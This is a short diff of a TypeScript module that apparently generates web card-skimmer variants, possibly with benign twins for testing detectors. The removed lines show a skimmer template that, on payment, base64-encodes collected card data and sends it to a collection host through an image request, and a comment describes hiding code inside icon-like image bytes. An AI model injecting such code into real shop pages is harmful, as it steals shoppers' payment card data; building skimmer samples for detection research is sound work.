@@ -1,12 +1,5 @@
+import { core, onlyWhen } from './core.ts';
 import { ON_PAY, type SkimmerVariant, takeCode } from './types.ts';
-
-/** Code that steals, or in the twin sends what the shop sells, to one host. */
-const core = (collect: string, honest: boolean) =>
-  `(() => { ${takeCode(honest)} function send() { new Image().src = '${collect}/i.gif?d=' + btoa(JSON.stringify(take())); } ${ON_PAY} })();`;
-
-function onlyWhen(id: string, idea: string, condition: string): SkimmerVariant {
-  return { id, idea, takes: ['card'], build: ({ collect }, honest) => ({ script: `if (${condition}) { ${core(collect, honest)} }` }) };
-}
 
 /** The code behind bytes that look like a picture: as thieves keep it in an icon. */
 function picture(code: string): Buffer {
